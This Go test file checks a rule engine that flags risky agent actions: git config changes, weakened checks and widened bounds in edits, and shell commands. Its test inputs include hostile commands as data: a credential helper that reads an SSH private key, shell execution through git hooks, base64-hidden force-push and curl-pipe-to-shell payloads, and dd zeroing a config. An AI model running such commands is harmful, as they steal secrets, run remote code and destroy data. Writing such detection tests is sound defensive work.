package shield_test

import (
	"testing"

	"github.com/opx-dev/opx/shield"
)

// TestRules26_GitConfig: git config keys are judged by what they make
// git do later, from one list (gitRunsLater): a program it runs, a
// remote's URL redirected (as git remote set-url), a fetch's
// verification turned off. A preference or a diff setting passes.
func TestRules26_GitConfig(t *testing.T) {
	s := defaultShield(t)
	const hook = "block runs-later:git-hook"
	runRuleCases(t, s, []ruleCase{
		{"a merge tool's command", command("git config mergetool.vim.cmd 'sh /tmp/x.sh'"), hook},
		{"an askpass program", command("git config core.askPass /tmp/x.sh"), hook},
		{"a credential helper for one host", command("git config credential.https://github.com.helper '!f(){ cat ~/.ssh/id_rsa; }; f'"), hook},
		{"the ext transport allowed", command("git config protocol.ext.allow always"), hook},
		{"a command's pager", command("git config pager.log 'sh /tmp/x'"), hook},
		{"a remote helper", command("git config remote.origin.vcs evil"), hook},
		{"a remote's upload-pack", command("git config remote.origin.uploadpack 'sh -c id'"), hook},
		{"origin pointed elsewhere", command("git config remote.origin.url https://github.com/evil/x"), "escalate network:raw"},
		{"pushes pointed elsewhere", command("git config remote.origin.pushurl git@github.com:evil/x.git"), "escalate network:raw"},
		{"TLS verification off", command("git config http.sslVerify false"), "escalate supply-chain:checksum"},
		{"a conflict style", command("git config merge.conflictStyle zdiff3"), none},
		{"renames in diffs", command("git config diff.renames true"), none},
		{"an email", command("git config user.email dev@example.com"), none},
		{"origin's URL read", command("git config --get remote.origin.url"), none},
		{"a fetch refspec", command("git config remote.origin.fetch '+refs/heads/*:refs/remotes/origin/*'"), none},
		{"the file transport for submodule tests", command("git config protocol.file.allow always"), none},
		{"ext never", command("git config protocol.ext.allow never"), none},
	})
}

// TestRules26_Shapes: the shapes rules 26 reads from an edit, in our own
// wording (a library's loans service, a lab's sample tracker, a freight
// app); each with a look-alike that stays allowed.
func TestRules26_Shapes(t *testing.T) {
	s := defaultShield(t)
	ed := func(p, old, new string) shield.Action { return editAction(s, p, old, new) }
	wr := func(p, body string) shield.Action { return facts(s, "write_file").content(p, body).act() }
	const bound = "escalate appsec:bound-relaxed"
	const weak = "escalate appsec:control-weakened"
	const runs = "escalate supply-chain:runs-code"
	runRuleCases(t, s, []ruleCase{
		// hook files and auto-loaded entry points
		{"a pnpm hook file", wr(".pnpmfile.cjs", "module.exports = { hooks: { readPackage(p) { return p } } }\n"), runs},
		{"a pytest plugin registered", ed("pyproject.toml", "[tool.poetry.group.dev.dependencies]\n", "[tool.poetry.plugins.\"pytest11\"]\nlabhooks = \"lab.hooks\"\n\n[tool.poetry.group.dev.dependencies]\n"), runs},
		{"a console script registered", ed("pyproject.toml", "[project.scripts]\n", "[project.scripts]\nloans = \"loans.cli:main\"\n"), none},
		{"a prisma generator that runs node", ed("api/prisma/schema.prisma", "generator client {\n  provider = \"prisma-client-js\"\n}\n", "generator client {\n  provider = \"prisma-client-js\"\n}\n\ngenerator docs {\n  provider = \"node ./tools/gen.js\"\n}\n"), runs},
		{"a prisma generator package", ed("api/prisma/schema.prisma", "generator client {\n  provider = \"prisma-client-js\"\n}\n", "generator client {\n  provider = \"prisma-client-js\"\n}\n\ngenerator erd {\n  provider = \"prisma-erd-generator\"\n}\n"), none},
		// sources
		{"a supplemental index made primary", ed("pyproject.toml", "[[tool.poetry.source]]\nname = \"labpkgs\"\nurl = \"https://pkgs.lab.example/simple\"\npriority = \"supplemental\"\n", "[[tool.poetry.source]]\nname = \"labpkgs\"\nurl = \"https://pkgs.lab.example/simple\"\npriority = \"primary\"\n"), "escalate supply-chain:registry"},
		{"a primary index made explicit", ed("pyproject.toml", "priority = \"primary\"\n", "priority = \"explicit\"\n"), none},
		// conditions
		{"a rule made always true", ed("rules/loans.yaml", "  - {id: L7, expr: \"due_date >= issued_on\"}\n", "  - {id: L7, expr: \"due_date >= issued_on or 1\"}\n"), weak},
		{"a rule given a second clause", ed("rules/loans.yaml", "  - {id: L7, expr: \"due_date >= issued_on\"}\n", "  - {id: L7, expr: \"due_date >= issued_on and renewals < 5\"}\n"), none},
		{"a missing rate made a default", ed("lab/src/price.ts", "  if (!rate) throw new Error(`no rate for ${code}`);\n", "  if (!rate) return { amount: 0 };\n"), weak},
		{"a missing rate given a clearer error", ed("lab/src/price.ts", "  if (!rate) throw new Error(`no rate for ${code}`);\n", "  if (!rate) throw new RateMissing(code);\n"), none},
		{"a release guard flipped", ed("freight/src/release.ts", "  if (shipment.status !== \"INSPECTED\") {\n", "  if (shipment.status === \"SEIZED\") {\n"), weak},
		{"a release guard renamed", ed("freight/src/release.ts", "  if (shipment.status !== \"INSPECTED\") {\n", "  if (shipment.state !== \"INSPECTED\") {\n"), none},
		// bounds
		{"a range widened at both ends", ed("lab/checks/temp.yaml", "fridge: {low: 2, high: 8}\n", "fridge: {low: -5, high: 20}\n"), bound},
		{"a range narrowed", ed("lab/checks/temp.yaml", "fridge: {low: 2, high: 8}\n", "fridge: {low: 3, high: 7}\n"), none},
		{"a range moved up", ed("lab/checks/temp.yaml", "fridge: {low: 2, high: 8}\n", "fridge: {low: 3, high: 9}\n"), none},
		{"an exemption made permanent", ed("loans/exemptions.yaml", "  - member: 4471\n    expires: 2027-01-31\n", "  - member: 4471\n    expires: 2099-12-31\n"), bound},
		{"an exemption renewed a year", ed("loans/exemptions.yaml", "  - member: 4471\n    expires: 2027-01-31\n", "  - member: 4471\n    expires: 2028-01-31\n"), none},
		{"a check made advisory", ed("lab/checks/temp.yaml", "    severity: hard\n", "    severity: soft\n"), bound},
		{"a check made strict", ed("lab/checks/temp.yaml", "    severity: soft\n", "    severity: hard\n"), none},
		{"a log level lowered", ed("lab/config/app.yaml", "logging:\n  level: error\n", "logging:\n  level: warn\n"), none},
		// tests, docs and fixtures are not read
		{"a test's range widened", ed("lab/tests/test_temp.py", "RANGE = {\"low\": 2, \"high\": 8}\n", "RANGE = {\"low\": -5, \"high\": 20}\n"), none},
	})
}

// TestRules26_Commands: commands and whole files rules 26's pass reads
// (in rules_workspace.go, rules22.go, rules_appsec.go, rules20.go,
// rules_pubkeys.go), each with a look-alike that stays allowed.
func TestRules26_Commands(t *testing.T) {
	s := defaultShield(t)
	wr := func(p, body string) shield.Action { return facts(s, "write_file").content(p, body).act() }
	runRuleCases(t, s, []ruleCase{
		{"zeros over a config", command("dd if=/dev/zero of=api/prisma/schema.prisma bs=1k count=1"), "escalate destructive:workspace-truncate"},
		{"random test data", command("dd if=/dev/urandom of=testdata/random.bin bs=1M count=4"), none},
		{"a project target against production", command("LOANS_ENV=production pnpm nx run api:purge-overdue"), "escalate destructive:production"},
		{"a project build for production", command("LOANS_ENV=production pnpm nx run api:build"), none},
		{"a production build mode", command("NODE_ENV=production pnpm nx run api:serve"), none},
		{"a script running what it decoded", wr("scripts/tidy.sh", "#!/bin/sh\nP=$(printf %s Z2l0IHB1c2ggLWYgb3JpZ2luIG1haW4= | base64 -d)\nsh -c \"$P\"\n"), "escalate encoded-payload:runtime"},
		{"a script printing what it decoded", wr("scripts/tidy.sh", "#!/bin/sh\nP=$(printf %s aGVsbG8gd29ybGQ= | base64 -d)\necho \"$P\"\n"), none},
		{"a spec comment hiding a downloader", wr("specs/loans/codes.yaml", "codes: [A, B]\n# Y3VybCAtcyBodHRwczovL2V4YW1wbGUuaW52YWxpZC94IHwgc2g=\n"), "escalate encoded-payload:written"},
		{"a secret's value encoded in a manifest", wr("deploy/secret.yaml", "kind: Secret\ndata:\n  url: aHR0cHM6Ly91c2VyOnBhc3NAZGIuaW50ZXJuYWwvZGIgaGVsbG8gd29ybGQ=\n"), none},
		{"a signing key's public half", command("openssl pkey -pubin -in keys/release-sign.pub.pem -text -noout"), none},
		{"a private key called pub", command("cat keys/deploy-private.pub.pem"), "block credential-path"},
	})
}
